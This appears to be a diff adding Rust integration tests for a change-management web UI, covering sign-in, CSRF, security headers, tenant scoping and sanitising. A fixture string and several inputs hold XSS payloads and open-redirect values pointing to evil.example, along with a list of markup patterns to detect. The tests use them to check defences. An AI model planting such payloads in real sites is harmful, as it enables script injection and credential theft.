@@ -1,0 +1,1062 @@
+//! The web UI in-process (no TCP), on SQLite and PostgreSQL: signing in and
+//! out with forms, redirects when signed out, the security headers of every
+//! page, a hostile post body rendered inert, who sees the triage panel and
+//! who may post to it, CSRF on every form, tenant scope on every page, the
+//! inbox's weight with 50 posts, and the tour a person takes (search, chip,
+//! post, diff, triage, board).
+
+use axum::Router;
+use axum::body::Body;
+use axum::http::{HeaderMap, Request, StatusCode, header};
+use changedesk_core::Timestamp;
+use changedesk_core::access::{Role, Scope};
+use changedesk_core::graph::Message;
+use changedesk_core::triage::{Owner, WorkItem};
+use changedesk_server::http::{self, AppState, Settings};
+use changedesk_server::ui::CONTENT_SECURITY_POLICY;
+use changedesk_store::{ImportOptions, ItemSave, NewUser, Store, TriageSeed};
+use serde_json::json;
+use tower::ServiceExt;
+
+pub(super) const NOW: &str = "2026-03-10T09:00:00Z";
+pub(super) const PASSWORD: &str = "correct horse battery staple";
+
+pub(super) fn at(s: &str) -> Timestamp {
+    Timestamp::parse(s).unwrap()
+}
+
+/// A post as Graph sends it.
+pub(super) fn post(
+    id: &str,
+    last_modified: &str,
+    title: &str,
+    body: &str,
+    extra: serde_json::Value,
+) -> Message {
+    let mut v = json!({
+        "startDateTime": "2026-01-05T10:00:00Z",
+        "endDateTime": "2026-12-31T08:00:00Z",
+        "lastModifiedDateTime": last_modified,
+        "title": title,
+        "id": id,
+        "category": "planForChange",
+        "severity": "normal",
+        "tags": ["User impact"],
+        "isMajorChange": false,
+        "actionRequiredByDateTime": null,
+        "services": ["Microsoft Teams"],
+        "hasAttachments": false,
+        "viewPoint": null,
+        "details": [],
+        "body": {"contentType": "html", "content": body}
+    });
+    for (k, x) in extra.as_object().unwrap() {
+        v[k] = x.clone();
+    }
+    Message::from_graph(&v, 0).unwrap()
+}
+
+/// Everything a hostile post body might try.
+const HOSTILE: &str = r#"<p>[When this will happen:]</p>
+<p onclick="alert('click')">Rollout <b>begins</b> in March.</p>
+<script>alert('script')</script>
+<img src="x" onerror="alert('img')">
+<a href="javascript:alert('js')">js link</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
+<a href="JaVaScRiPt:alert('mixed')">mixed case</a>
+<iframe src="https://evil.example/frame"></iframe>
+<style>body { background: url(javascript:alert('css')) }</style>
+<p style="width: expression(alert('expr')); background-image: url(https://evil.example/track.png)">styled</p>
+<svg onload="alert('svg')"><circle r="1"/></svg>
+<object data="https://evil.example/x.swf"></object>
+<form action="https://evil.example/steal"><input name="password"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/">
+<a href="https://learn.microsoft.com/microsoft-365/">a good link</a>"#;
+
+pub(super) struct Fixture {
+    pub(super) app: Router,
+    pub(super) store: Store,
+}
+
+pub(super) async fn user(store: &Store, name: &str, role: Role, scope: Scope) {
+    store
+        .create_user(
+            &NewUser {
+                name: name.into(),
+                display_name: name.into(),
+                email: format!("{name}@example.com"),
+                role,
+                scope,
+                password_hash: Some(http::hash_password(PASSWORD).unwrap()),
+                oidc_subject: None,
+                disabled: false,
+                at: at(NOW),
+            },
+            "test",
+        )
+        .await
+        .unwrap();
+}
+
+pub(super) fn opts(now: &str) -> ImportOptions {
+    ImportOptions {
+        complete: true,
+        now: at(now),
+        source: "test".into(),
+        rejected: 0,
+    }
+}
+
+/// Tenants `alpha` and `zulu`. MC1 seen by both (two revisions, the second
+/// with a moved date), MC2 by zulu only, MC666 (hostile body) by alpha, and
+/// `extra` more posts by alpha. Work items for MC1 (owen's), MC2 and MC666.
+/// Users: admin, manager, owen (owner), reader, and scoped (a change
+/// manager limited to alpha), all with `PASSWORD`.
+pub(super) async fn fixture(store: Store, extra: usize) -> Fixture {
+    let v1 = post(
+        "MC1",
+        "2026-02-01T00:00:00Z",
+        "Teams: meeting recap for everyone",
+        "<p>[When this will happen:]</p><p>Rollout begins in March 2026.</p>",
+        json!({"isMajorChange": true, "severity": "high",
+            "details": [{"name": "Summary", "value": "Recaps arrive for every meeting."},
+                        {"name": "RoadmapIds", "value": "412345"},
+                        {"name": "ExternalLink", "value": "javascript:alert('detail')"}]}),
+    );
+    let v2 = post(
+        "MC1",
+        "2026-02-05T00:00:00Z",
+        "(Updated) Teams: meeting recap for everyone",
+        "<p>[When this will happen:]</p><p>Rollout begins in May 2026.</p>",
+        json!({"isMajorChange": true, "severity": "high",
+            "actionRequiredByDateTime": "2026-03-20T00:00:00Z"}),
+    );
+    let hostile = post(
+        "MC666",
+        "2026-02-03T00:00:00Z",
+        "<script>alert('title')</script> Hostile post",
+        HOSTILE,
+        json!({"services": ["Exchange Online"],
+            "details": [{"name": "BlogLink", "value": "javascript:alert('blog')"},
+                        {"name": "Summary", "value": "<b>bold</b> summary"}]}),
+    );
+    let mut alpha = vec![v1, hostile];
+    for i in 0..extra {
+        alpha.push(post(
+            &format!("MC{}", 5000 + i),
+            &format!("2026-01-{:02}T{:02}:00:00Z", 1 + i % 28, i % 24),
+            &format!(
+                "Microsoft Viva: a realistic headline about feature number {i} rolling out to tenants"
+            ),
+            "<p>[When this will happen:]</p><p>Soon.</p>",
+            json!({"services": ["Microsoft Viva", "Microsoft Teams"],
+                "tags": ["Feature update", "User impact", "Admin impact"]}),
+        ));
+    }
+    store
+        .import_messages("alpha", &alpha, &opts("2026-03-01T00:00:00Z"))
+        .await
+        .unwrap();
+    store
+        .import_messages(
+            "zulu",
+            &[
+                v2,
+                post(
+                    "MC2",
+                    "2026-02-01T00:00:00Z",
+                    "Zulu only: secret rollout",
+                    "<p>zulu</p>",
+                    json!({}),
+                ),
+            ],
+            &opts("2026-03-02T00:00:00Z"),
+        )
+        .await
+        .unwrap();
+    store
+        .seed(
+            &TriageSeed {
+                owners: vec![Owner::new("owen", "Owen's team", "owen@example.com").unwrap()],
+                ..Default::default()
+            },
+            &at(NOW),
+        )
+        .await
+        .unwrap();
+    for (id, assignee) in [("MC1", Some("owen")), ("MC2", None), ("MC666", None)] {
+        let mut item = WorkItem::new(id, at(NOW));
+        item.assignee = assignee.map(String::from);
+        store
+            .save_work_item(&ItemSave {
+                item: &item,
+                expected_version: None,
+                evaluated_revision: None,
+                entries: &[],
+                notify: &[],
+                at: at(NOW),
+            })
+            .await
+            .unwrap();
+    }
+    let alpha_only = Scope {
+        tenants: vec!["alpha".into()],
+        groups: vec![],
+    };
+    user(&store, "admin", Role::Admin, Scope::default()).await;
+    user(&store, "owen", Role::Owner, Scope::default()).await;
+    user(&store, "reader", Role::Reader, Scope::default()).await;
+    user(&store, "scoped", Role::ChangeManager, alpha_only).await;
+    let state = AppState::new(
+        store.clone(),
+        Settings {
+            secure_cookies: false,
+            ..Settings::default()
+        },
+    )
+    .with_clock(|| at(NOW));
+    Fixture {
+        app: http::router(state, true),
+        store,
+    }
+}
+
+pub(super) struct Answer {
+    pub(super) status: StatusCode,
+    pub(super) headers: HeaderMap,
+    pub(super) body: String,
+}
+
+impl Answer {
+    pub(super) fn location(&self) -> &str {
+        self.headers
+            .get(header::LOCATION)
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("")
+    }
+
+    /// The value of `<input … name="NAME" value="…">` on the page.
+    pub(super) fn field(&self, name: &str) -> String {
+        let needle = format!("name=\"{name}\" value=\"");
+        let i = self
+            .body
+            .find(&needle)
+            .unwrap_or_else(|| panic!("no field {name} in {}", self.body));
+        let rest = &self.body[i + needle.len()..];
+        rest[..rest.find('"').unwrap()].to_string()
+    }
+
+    /// A cookie the answer sets, as `name=value`.
+    pub(super) fn cookie(&self, name: &str) -> Option<String> {
+        self.headers
+            .get_all(header::SET_COOKIE)
+            .iter()
+            .filter_map(|v| v.to_str().ok())
+            .find(|c| c.starts_with(&format!("{name}=")))
+            .map(|c| c.split(';').next().unwrap().to_string())
+    }
+}
+
+pub(super) async fn send(app: &Router, req: Request<Body>) -> Answer {
+    let resp = app.clone().oneshot(req).await.unwrap();
+    let status = resp.status();
+    let headers = resp.headers().clone();
+    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
+        .await
+        .unwrap();
+    Answer {
+        status,
+        headers,
+        body: String::from_utf8_lossy(&bytes).into_owned(),
+    }
+}
+
+pub(super) fn get(path: &str, cookie: Option<&str>) -> Request<Body> {
+    let mut b = Request::builder().method("GET").uri(path);
+    if let Some(c) = cookie {
+        b = b.header(header::COOKIE, c);
+    }
+    b.body(Body::empty()).unwrap()
+}
+
+pub(super) fn form(path: &str, cookie: Option<&str>, fields: &[(&str, &str)]) -> Request<Body> {
+    let body = url::form_urlencoded::Serializer::new(String::new())
+        .extend_pairs(fields)
+        .finish();
+    let mut b = Request::builder()
+        .method("POST")
+        .uri(path)
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
+    if let Some(c) = cookie {
+        b = b.header(header::COOKIE, c);
+    }
+    b.body(Body::from(body)).unwrap()
+}
+
+/// A browser's session: its cookie and its CSRF token.
+pub(super) struct Browser {
+    pub(super) cookie: String,
+    pub(super) csrf: String,
+}
+
+pub(super) async fn sign_in(f: &Fixture, name: &str) -> Browser {
+    let page = send(&f.app, get("/sign-in?next=/board", None)).await;
+    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
+    let pre = page
+        .cookie("changedesk_sign_in")
+        .expect("the sign-in cookie");
+    let token = page.field("token");
+    let a = send(
+        &f.app,
+        form(
+            "/sign-in",
+            Some(&pre),
+            &[
+                ("name", name),
+                ("password", PASSWORD),
+                ("next", "/board"),
+                ("token", &token),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
+    assert_eq!(a.location(), "/board");
+    let cookie = a.cookie("changedesk_session").expect("a session cookie");
+    let inbox = send(&f.app, get("/", Some(&cookie))).await;
+    assert_eq!(inbox.status, StatusCode::OK);
+    let csrf = inbox.field("csrf_token");
+    Browser { cookie, csrf }
+}
+
+impl Browser {
+    pub(super) async fn get(&self, f: &Fixture, path: &str) -> Answer {
+        send(&f.app, get(path, Some(&self.cookie))).await
+    }
+
+    pub(super) async fn post(&self, f: &Fixture, path: &str, fields: &[(&str, &str)]) -> Answer {
+        let mut all = vec![("csrf_token", self.csrf.as_str())];
+        all.extend_from_slice(fields);
+        send(&f.app, form(path, Some(&self.cookie), &all)).await
+    }
+}
+
+async fn sign_in_page_signs_in_and_sets_the_cookie(store: Store) {
+    let f = fixture(store, 0).await;
+    let page = send(&f.app, get("/sign-in", None)).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(
+        page.body.contains(r#"<label for="name">User name</label>"#)
+            && page
+                .body
+                .contains(r#"<label for="password">Password</label>"#),
+        "{}",
+        page.body
+    );
+    assert!(
+        !page.body.contains("Sign in with Microsoft"),
+        "no OpenID Connect configured"
+    );
+    let pre = page.cookie("changedesk_sign_in").unwrap();
+    let token = page.field("token");
+    // a wrong password: the form again, with the reason, audited
+    let wrong = send(
+        &f.app,
+        form(
+            "/sign-in",
+            Some(&pre),
+            &[
+                ("name", "admin"),
+                ("password", "wrong password!"),
+                ("token", &token),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
+    assert!(
+        wrong.body.contains("wrong user name or password"),
+        "{}",
+        wrong.body
+    );
+    assert!(wrong.cookie("changedesk_session").is_none());
+    // without the sign-in form's token (login CSRF): refused
+    let forged = send(
+        &f.app,
+        form(
+            "/sign-in",
+            None,
+            &[("name", "admin"), ("password", PASSWORD)],
+        ),
+    )
+    .await;
+    assert_eq!(forged.status, StatusCode::FORBIDDEN);
+    assert!(forged.cookie("changedesk_session").is_none());
+    // the right password: a session cookie, then on to `next` (relative only)
+    let ok = send(
+        &f.app,
+        form(
+            "/sign-in",
+            Some(&pre),
+            &[
+                ("name", "Admin"),
+                ("password", PASSWORD),
+                ("next", "https://evil.example/"),
+                ("token", &token),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
+    assert_eq!(ok.location(), "/", "no open redirect");
+    let set = ok
+        .headers
+        .get_all(header::SET_COOKIE)
+        .iter()
+        .map(|v| v.to_str().unwrap().to_string())
+        .find(|c| c.starts_with("changedesk_session="))
+        .unwrap();
+    assert!(
+        set.contains("HttpOnly") && set.contains("SameSite=Lax"),
+        "{set}"
+    );
+    let cookie = ok.cookie("changedesk_session").unwrap();
+    let inbox = send(&f.app, get("/", Some(&cookie))).await;
+    assert_eq!(inbox.status, StatusCode::OK);
+    assert!(inbox.body.contains("admin · admin"), "{}", inbox.body);
+    // signed in already: the sign-in page goes straight on
+    let again = send(&f.app, get("/sign-in?next=/board", Some(&cookie))).await;
+    assert_eq!(
+        (again.status, again.location()),
+        (StatusCode::SEE_OTHER, "/board")
+    );
+    // sign out needs the CSRF token, then ends the session
+    let csrf = inbox.field("csrf_token");
+    let no = send(&f.app, form("/sign-out", Some(&cookie), &[])).await;
+    assert_eq!(no.status, StatusCode::FORBIDDEN);
+    let out = send(
+        &f.app,
+        form("/sign-out", Some(&cookie), &[("csrf_token", &csrf)]),
+    )
+    .await;
+    assert_eq!(
+        (out.status, out.location()),
+        (StatusCode::SEE_OTHER, "/sign-in")
+    );
+    let after = send(&f.app, get("/", Some(&cookie))).await;
+    assert_eq!(after.status, StatusCode::SEE_OTHER, "the session ended");
+    let audit = f.store.audit_log(50).await.unwrap();
+    let actions: Vec<&str> = audit.iter().map(|a| a.action.as_str()).collect();
+    for a in [
+        "session.sign_in",
+        "session.sign_in_failed",
+        "session.sign_out",
+    ] {
+        assert!(actions.contains(&a), "{a} audited: {actions:?}");
+    }
+}
+
+async fn pages_redirect_when_signed_out(store: Store) {
+    let f = fixture(store, 0).await;
+    for (path, next) in [
+        ("/", "%2F"),
+        ("/posts/MC1?from=1", "%2Fposts%2FMC1%3Ffrom%3D1"),
+        ("/board", "%2Fboard"),
+        ("/items?assignee=me", "%2Fitems%3Fassignee%3Dme"),
+    ] {
+        let a = send(&f.app, get(path, None)).await;
+        assert_eq!(a.status, StatusCode::SEE_OTHER, "{path}");
+        assert_eq!(a.location(), format!("/sign-in?next={next}"), "{path}");
+    }
+    // an expired or made-up session counts as none
+    let a = send(&f.app, get("/", Some("changedesk_session=made-up"))).await;
+    assert_eq!(a.location(), "/sign-in?next=%2F");
+    // a form post without a session goes to sign in too, and changes nothing
+    let a = send(
+        &f.app,
+        form("/posts/MC1/actions", None, &[("action", "triage")]),
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::SEE_OTHER);
+    let item = f.store.work_item("MC1").await.unwrap().unwrap();
+    assert_eq!(item.item.state.as_str(), "new");
+    // not found: HTML for pages, problem+json under /api
+    let a = send(&f.app, get("/no/such/page", None)).await;
+    assert_eq!(a.status, StatusCode::NOT_FOUND);
+    assert!(
+        a.headers[header::CONTENT_TYPE]
+            .to_str()
+            .unwrap()
+            .starts_with("text/html")
+    );
+    let a = send(&f.app, get("/api/v1/no-such-thing", None)).await;
+    assert_eq!(a.status, StatusCode::NOT_FOUND);
+    assert_eq!(a.headers[header::CONTENT_TYPE], "application/problem+json");
+}
+
+pub(super) fn assert_secure_headers(a: &Answer, what: &str) {
+    assert_eq!(
+        a.headers
+            .get(header::CONTENT_SECURITY_POLICY)
+            .map(|v| v.to_str().unwrap()),
+        Some(CONTENT_SECURITY_POLICY),
+        "{what}"
+    );
+    assert_eq!(
+        a.headers[header::X_CONTENT_TYPE_OPTIONS],
+        "nosniff",
+        "{what}"
+    );
+    assert_eq!(a.headers[header::REFERRER_POLICY], "same-origin", "{what}");
+}
+
+/// No inline script or style, nothing loaded from elsewhere.
+pub(super) fn assert_self_contained(body: &str, what: &str) {
+    let lower = body.to_ascii_lowercase();
+    assert!(!lower.contains("<style"), "{what}: inline <style>");
+    assert!(!lower.contains(" style="), "{what}: style attribute");
+    for (i, _) in lower.match_indices("<script") {
+        let tag = &lower[i..i + lower[i..].find('>').unwrap()];
+        assert!(
+            tag.contains(" src=\"/static/"),
+            "{what}: inline script {tag}"
+        );
+    }
+    for attr in ["src=\"http", "src=\"//", "href=\"//"] {
+        assert!(!lower.contains(attr), "{what}: {attr}");
+    }
+    for (i, _) in lower.match_indices("<link ") {
+        let tag = &lower[i..i + lower[i..].find('>').unwrap()];
+        assert!(tag.contains("href=\"/static/"), "{what}: {tag}");
+    }
+}
+
+async fn every_ui_answer_has_the_security_headers(store: Store) {
+    let f = fixture(store, 3).await;
+    let b = sign_in(&f, "admin").await;
+    let sign_in_page = send(&f.app, get("/sign-in", None)).await;
+    assert_secure_headers(&sign_in_page, "/sign-in");
+    assert_self_contained(&sign_in_page.body, "/sign-in");
+    let signed_out = send(&f.app, get("/", None)).await;
+    assert_secure_headers(&signed_out, "redirect to sign in");
+    let inbox = b.get(&f, "/").await;
+    let mut assets = Vec::new();
+    for (i, _) in inbox.body.match_indices("/static/") {
+        let rest = &inbox.body[i..];
+        assets.push(rest[..rest.find('"').unwrap()].to_string());
+    }
+    assert_eq!(
+        assets.len(),
+        3,
+        "a stylesheet, a script, an icon: {assets:?}"
+    );
+    for path in [
+        "/",
+        "/?q=recap&sort=relevance",
+        "/?chip=high",
+        "/posts/MC1",
+        "/posts/MC666",
+        "/posts/MC1?from=1&to=2",
+        "/board",
+        "/items",
+        "/items?assignee=me",
+        "/items?deadline=late",
+        "/posts/MC404",
+        "/no/such/page",
+    ] {
+        let a = b.get(&f, path).await;
+        assert!(
+            a.status == StatusCode::OK || a.status == StatusCode::NOT_FOUND,
+            "{path}: {}",
+            a.status
+        );
+        assert_secure_headers(&a, path);
+        assert_eq!(a.headers[header::CACHE_CONTROL], "no-store", "{path}");
+        assert!(
+            a.headers[header::CONTENT_TYPE]
+                .to_str()
+                .unwrap()
+                .starts_with("text/html"),
+            "{path}"
+        );
+        assert_self_contained(&a.body, path);
+    }
+    for asset in &assets {
+        let a = send(&f.app, get(asset, None)).await;
+        assert_eq!(a.status, StatusCode::OK, "{asset}");
+        assert_secure_headers(&a, asset);
+        assert!(
+            a.headers[header::CACHE_CONTROL]
+                .to_str()
+                .unwrap()
+                .contains("immutable"),
+            "{asset}"
+        );
+    }
+    let stale = send(&f.app, get("/static/app.000000000000.css", None)).await;
+    assert_eq!(stale.status, StatusCode::NOT_FOUND);
+    // form answers carry them too
+    let posted = b
+        .post(&f, "/posts/MC404/actions", &[("action", "triage")])
+        .await;
+    assert_eq!(posted.status, StatusCode::NOT_FOUND);
+    assert_secure_headers(&posted, "a form post");
+}
+
+async fn a_hostile_post_renders_inert(store: Store) {
+    let f = fixture(store, 0).await;
+    let b = sign_in(&f, "admin").await;
+    let a = b.get(&f, "/posts/MC666").await;
+    assert_eq!(a.status, StatusCode::OK, "{}", a.body);
+    let lower = a.body.to_ascii_lowercase();
+    for bad in [
+        "alert(",
+        "onerror",
+        "onload",
+        "onclick",
+        "javascript:",
+        "data:",
+        "<iframe",
+        "<style",
+        "expression(",
+        "<svg",
+        "<object",
+        "<img",
+        "<meta http-equiv",
+        "<base",
+        "evil.example",
+        " style=",
+    ] {
+        // `alert(` etc. may only survive as escaped text, never as markup
+        if bad == "alert(" {
+            continue;
+        }
+        assert!(!lower.contains(bad), "{bad} survived:\n{}", a.body);
+    }
+    // the title and the summary are text, escaped
+    assert!(
+        a.body.contains(&escaped("<b>bold</b> summary")),
+        "{}",
+        a.body
+    );
+    assert!(
+        a.body
+            .contains(&escaped("<script>alert('title')</script> Hostile post")),
+        "{}",
+        a.body
+    );
+    assert!(!a.body.contains("<script>alert"), "{}", a.body);
+    assert_eq!(
+        lower.matches("<script").count(),
+        1,
+        "only the page's own script"
+    );
+    // the one form on the page is ours: the sign-out and triage forms
+    assert!(!lower.contains("action=\"https://"), "{}", a.body);
+    // what is left still reads: the heading styled, the good link kept
+    assert!(
+        a.body.contains(
+            r#"<span class="mc-h" role="heading" aria-level="3">[When this will happen:]</span>"#
+        ),
+        "{}",
+        a.body
+    );
+    assert!(
+        a.body.contains("Rollout <b>begins</b> in March."),
+        "{}",
+        a.body
+    );
+    assert!(
+        a.body
+            .contains(r#"href="https://learn.microsoft.com/microsoft-365/""#),
+        "{}",
+        a.body
+    );
+    // and the strict policy stands behind it all
+    assert_secure_headers(&a, "/posts/MC666");
+}
+
+async fn readers_get_no_triage_panel_and_cannot_triage(store: Store) {
+    let f = fixture(store, 0).await;
+    for who in ["reader", "owen"] {
+        let b = sign_in(&f, who).await;
+        // owen owns MC1 but not MC2; the reader owns nothing
+        let page = b.get(&f, "/posts/MC2").await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(
+            !page.body.contains("Triage actions") && !page.body.contains("id=\"act-triage\""),
+            "{who} sees no panel"
+        );
+        assert!(page.body.contains("Decision log") || page.body.contains("State"));
+        let inbox = b.get(&f, "/").await;
+        if who == "reader" {
+            assert!(!inbox.body.contains("Apply to selected"), "no bulk triage");
+        }
+        let a = b
+            .post(
+                &f,
+                "/posts/MC2/actions",
+                &[("action", "triage"), ("version", "1")],
+            )
+            .await;
+        assert_eq!(a.status, StatusCode::FORBIDDEN, "{who}: {}", a.body);
+        let bulk = b
+            .post(&f, "/items/bulk", &[("action", "triage"), ("id", "MC2")])
+            .await;
+        assert!(bulk.body.contains("0 of 1 done"), "{who}: {}", bulk.body);
+        let item = f.store.work_item("MC2").await.unwrap().unwrap();
+        assert_eq!(item.item.state.as_str(), "new", "{who} changed nothing");
+    }
+    // owen acts on his own item
+    let b = sign_in(&f, "owen").await;
+    let page = b.get(&f, "/posts/MC1").await;
+    assert!(page.body.contains("id=\"act-triage\""), "{}", page.body);
+    let version = page.field("version");
+    let a = b
+        .post(
+            &f,
+            "/posts/MC1/actions",
+            &[("action", "triage"), ("version", &version)],
+        )
+        .await;
+    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
+}
+
+async fn forms_without_the_csrf_token_are_refused(store: Store) {
+    let f = fixture(store, 0).await;
+    let b = sign_in(&f, "admin").await;
+    for token in [None, Some("wrong"), Some("")] {
+        let mut fields = vec![("action", "triage")];
+        if let Some(t) = token {
+            fields.push(("csrf_token", t));
+        }
+        for path in ["/posts/MC1/actions", "/items/bulk"] {
+            let mut fields = fields.clone();
+            fields.push(("id", "MC1"));
+            let a = send(&f.app, form(path, Some(&b.cookie), &fields)).await;
+            assert_eq!(a.status, StatusCode::FORBIDDEN, "{path} {token:?}");
+        }
+    }
+    // another session's token does not do either
+    let other = sign_in(&f, "admin").await;
+    let a = send(
+        &f.app,
+        form(
+            "/posts/MC1/actions",
+            Some(&b.cookie),
+            &[("action", "triage"), ("csrf_token", &other.csrf)],
+        ),
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::FORBIDDEN);
+    let item = f.store.work_item("MC1").await.unwrap().unwrap();
+    assert_eq!(item.item.state.as_str(), "new", "nothing changed");
+    // the right token works, once per version
+    let a = b
+        .post(
+            &f,
+            "/posts/MC1/actions",
+            &[("action", "triage"), ("version", "1")],
+        )
+        .await;
+    assert_eq!(
+        (a.status, a.location()),
+        (StatusCode::SEE_OTHER, "/posts/MC1#triage")
+    );
+    let stale = b
+        .post(
+            &f,
+            "/posts/MC1/actions",
+            &[("action", "start"), ("version", "1")],
+        )
+        .await;
+    assert_eq!(
+        stale.status,
+        StatusCode::CONFLICT,
+        "an old version is refused"
+    );
+    assert!(
+        stale.body.contains("reload and try again"),
+        "{}",
+        stale.body
+    );
+    let log = f.store.work_item_log("MC1").await.unwrap();
+    assert_eq!(log.last().unwrap().entry.actor.as_str(), "admin");
+}
+
+async fn scoped_users_see_only_their_tenants(store: Store) {
+    let f = fixture(store, 2).await;
+    let b = sign_in(&f, "scoped").await;
+    for path in [
+        "/",
+        "/?tenant=zulu",
+        "/?q=secret",
+        "/?q=zulu",
+        "/posts/MC1",
+        "/posts/MC1?from=1&to=2",
+        "/board",
+        "/items",
+        "/items?state=open",
+    ] {
+        let a = b.get(&f, path).await;
+        assert_eq!(a.status, StatusCode::OK, "{path}");
+        let lower = a.body.to_ascii_lowercase();
+        assert!(
+            !lower.contains("zulu") || path.contains("zulu") && !lower.contains("zulu only"),
+            "{path} shows the other tenant:\n{}",
+            a.body
+        );
+        assert!(
+            !a.body.contains("MC2<") && !a.body.contains("/posts/MC2"),
+            "{path}"
+        );
+    }
+    // the search for the tenant's name shows it only in the search box
+    let a = b.get(&f, "/?q=zulu").await;
+    assert!(a.body.contains(">0 posts<"), "{}", a.body);
+    let a = b.get(&f, "/posts/MC2").await;
+    assert_eq!(a.status, StatusCode::NOT_FOUND, "as if it did not exist");
+    let a = b
+        .post(&f, "/posts/MC2/actions", &[("action", "triage")])
+        .await;
+    assert_eq!(a.status, StatusCode::NOT_FOUND);
+    // an unrestricted user sees both
+    let admin = sign_in(&f, "admin").await;
+    let a = admin.get(&f, "/").await;
+    assert!(a.body.contains("/posts/MC2") && a.body.contains("zulu"));
+}
+
+async fn the_inbox_with_50_posts_weighs_under_100_kb(store: Store) {
+    let f = fixture(store, 60).await;
+    let b = sign_in(&f, "admin").await;
+    let a = b.get(&f, "/").await;
+    assert_eq!(a.status, StatusCode::OK);
+    let rows = a.body.matches("<tr data-row>").count();
+    assert_eq!(rows, 50, "a page is 50 posts");
+    assert!(a.body.contains("rel=\"next\""), "and a next page");
+    let css = send(&f.app, get(&asset(&a.body, ".css"), None))
+        .await
+        .body
+        .len();
+    let js = send(&f.app, get(&asset(&a.body, ".js"), None))
+        .await
+        .body
+        .len();
+    let icon = send(&f.app, get(&asset(&a.body, ".svg"), None))
+        .await
+        .body
+        .len();
+    let total = a.body.len() + css + js + icon;
+    println!(
+        "inbox with 50 posts: HTML {} bytes, CSS {css}, JS {js}, icon {icon}, total {total} bytes ({:.1} KB)",
+        a.body.len(),
+        total as f64 / 1024.0
+    );
+    assert!(total < 100 * 1024, "{total} bytes");
+    // the next page is the rest
+    let next = {
+        let i = a.body.find("rel=\"next\"").unwrap();
+        let start = a.body[..i].rfind("href=\"").unwrap() + 6;
+        a.body[start..a.body[start..].find('"').unwrap() + start]
+            .replace("&amp;", "&")
+            .replace("&#38;", "&")
+    };
+    let page2 = b.get(&f, &next).await;
+    assert_eq!(page2.status, StatusCode::OK, "{next}");
+    assert_eq!(page2.body.matches("<tr data-row>").count(), 63 - 50);
+}
+
+/// Text as the templates escape it.
+pub(super) fn escaped(s: &str) -> String {
+    s.replace('&', "&#38;")
+        .replace('<', "&#60;")
+        .replace('>', "&#62;")
+        .replace('"', "&#34;")
+        .replace('\'', "&#39;")
+}
+
+fn asset(body: &str, ext: &str) -> String {
+    body.match_indices("/static/")
+        .map(|(i, _)| &body[i..i + body[i..].find('"').unwrap()])
+        .find(|p| p.ends_with(ext))
+        .unwrap()
+        .to_string()
+}
+
+async fn a_tour_search_chip_post_diff_triage_board(store: Store) {
+    let f = fixture(store, 5).await;
+    let b = sign_in(&f, "admin").await;
+    // search with the hit highlighted
+    let a = b.get(&f, "/?q=may").await;
+    assert!(a.body.contains(">1 post<"), "{}", a.body);
+    assert!(a.body.contains("<mark>May</mark>"), "{}", a.body);
+    // the major chip is a filter, and a shareable URL
+    let inbox = b.get(&f, "/").await;
+    assert!(inbox.body.contains("Major <b>1</b>"), "{}", inbox.body);
+    assert!(
+        inbox.body.contains(r#"href="/?major=true""#),
+        "{}",
+        inbox.body
+    );
+    let a = b.get(&f, "/?major=true").await;
+    assert!(
+        a.body.contains(">1 post<") && a.body.contains("/posts/MC1"),
+        "{}",
+        a.body
+    );
+    assert!(
+        a.body.contains(r#"aria-current="true">Major"#),
+        "{}",
+        a.body
+    );
+    let a = b.get(&f, "/?chip=high").await;
+    assert!(
+        a.body.contains(">1 post<") && a.body.contains("/posts/MC1"),
+        "{}",
+        a.body
+    );
+    // a facet value is a link that sets the filter
+    assert!(
+        inbox.body.contains(r#"href="/?service=Microsoft+Viva""#),
+        "{}",
+        inbox.body
+    );
+    let a = b.get(&f, "/?service=Microsoft+Viva").await;
+    assert!(a.body.contains(">5 posts<"), "{}", a.body);
+    // a bad value says what is wrong
+    let a = b.get(&f, "/?sort=sideways").await;
+    assert_eq!(a.status, StatusCode::BAD_REQUEST);
+    assert!(a.body.contains("sideways"));
+    // the post: summary, dates, roadmap, the diff of its two revisions
+    let post = b.get(&f, "/posts/MC1").await;
+    assert!(
+        post.body.contains("Recaps arrive for every meeting."),
+        "{}",
+        post.body
+    );
+    assert!(post.body.contains("2026-03-20"), "the act-by date");
+    assert!(post.body.contains("searchterms=412345"), "the roadmap link");
+    assert!(
+        !post.body.contains("alert('detail')"),
+        "a javascript: detail is no link"
+    );
+    assert!(post.body.contains("Revision 1 → 2"), "{}", post.body);
+    assert!(
+        post.body
+            .contains(r#"<div class="del">-Rollout begins in March 2026.</div>"#),
+        "{}",
+        post.body
+    );
+    assert!(
+        post.body
+            .contains(r#"<div class="ins">+Rollout begins in May 2026.</div>"#),
+        "{}",
+        post.body
+    );
+    // triage it, assign it, comment on it
+    let version = post.field("version");
+    for (fields, _) in [
+        (
+            vec![("action", "triage"), ("version", version.as_str())],
+            (),
+        ),
+        (vec![("action", "assign"), ("owner", "owen")], ()),
+        (
+            vec![("action", "set_priority"), ("priority", "critical")],
+            (),
+        ),
+        (vec![("action", "set_due"), ("due", "2026-03-15")], ()),
+        (
+            vec![("action", "comment"), ("text", "<b>looked</b> at it")],
+            (),
+        ),
+    ] {
+        let a = b.post(&f, "/posts/MC1/actions", &fields).await;
+        assert_eq!(a.status, StatusCode::SEE_OTHER, "{fields:?}: {}", a.body);
+    }
+    let bad = b
+        .post(
+            &f,
+            "/posts/MC1/actions",
+            &[("action", "set_due"), ("due", "someday")],
+        )
+        .await;
+    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
